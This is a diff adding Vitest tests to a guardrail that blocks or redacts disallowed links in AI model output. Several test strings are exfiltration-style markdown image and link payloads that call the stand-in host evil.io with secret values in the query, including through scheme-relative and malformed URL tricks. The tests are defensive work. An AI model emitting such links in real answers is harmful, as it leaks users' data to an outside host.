@@ -1,6 +1,8 @@
+import { generateText, wrapLanguageModel } from 'ai';
 import { describe, expect, it } from 'vitest';
-import { guardContext as context } from '../../../test/helpers';
+import { guardContext as context, textModel } from '../../../test/helpers';
 import { GuardrailConfigError } from '../../core/errors';
+import { guardrails } from '../../middleware/guardrails-middleware';
 import { findUrls } from './find-urls';
 import { decodePunycodeLabel, homographLabel, isPrivateHost } from './host-checks';
 import { urlFilter } from './url-filter';
@@ -223,6 +225,49 @@ describe('urlFilter', () => {
     });
     expect(guard.streamSafe).toBe(true);
     expect(guard.maxMatchLength).toBe(2048);
+  });
+
+  it.each([
+    [
+      'a markdown image with a scheme-relative link',
+      '![x](//evil.io/pixel.png?d=secret)',
+      'http://evil.io',
+    ],
+    ['a scheme-relative link in prose', 'see //evil.io/a for more', 'http://evil.io'],
+    ['backslashes a browser reads as slashes', '<a href="\\/evil.io/a">x</a>', 'http://evil.io'],
+    ['https: without slashes', '[x](https:evil.io/a)', 'https://evil.io'],
+    ['https: with one slash', '[x](https:/evil.io/a)', 'https://evil.io'],
+  ])('finds %s (a browser opens the host)', async (_, text, url) => {
+    const guard = urlFilter({ allow: ['example.com'] });
+    expect(await guard.check(text, context('output'))).toEqual({
+      action: 'block',
+      message: 'This content contains a link that is not allowed.',
+      reason: `${url}: host "evil.io" is not on the allow list`,
+      severity: 'warning',
+      info: { urls: [{ url, rule: 'host "evil.io" is not on the allow list' }], count: 1 },
+    });
+  });
+
+  it('does not take code comments or paths for scheme-relative links', async () => {
+    const guard = urlFilter({ allow: ['example.com'] });
+    for (const text of [
+      'i++; //increment',
+      'x = 1 // note',
+      'https://example.com//evil.io/x',
+      'C:\\\\share\\file',
+      '//TODO: fix',
+    ]) {
+      expect(await guard.check(text, context('output'))).toEqual({ action: 'allow' });
+    }
+  });
+
+  it('redacts a scheme-relative image link in an answer through generateText', async () => {
+    const model = wrapLanguageModel({
+      model: textModel('Here: ![chart](//evil.io/c.png?q=hunter2) and https://example.com/ok'),
+      middleware: guardrails({ output: [urlFilter({ allow: ['example.com'], action: 'redact' })] }),
+    });
+    const result = await generateText({ model, prompt: 'chart please' });
+    expect(result.text).toBe('Here: ![chart]([link removed]) and https://example.com/ok');
   });
 
   it('rejects bad options with their paths', () => {
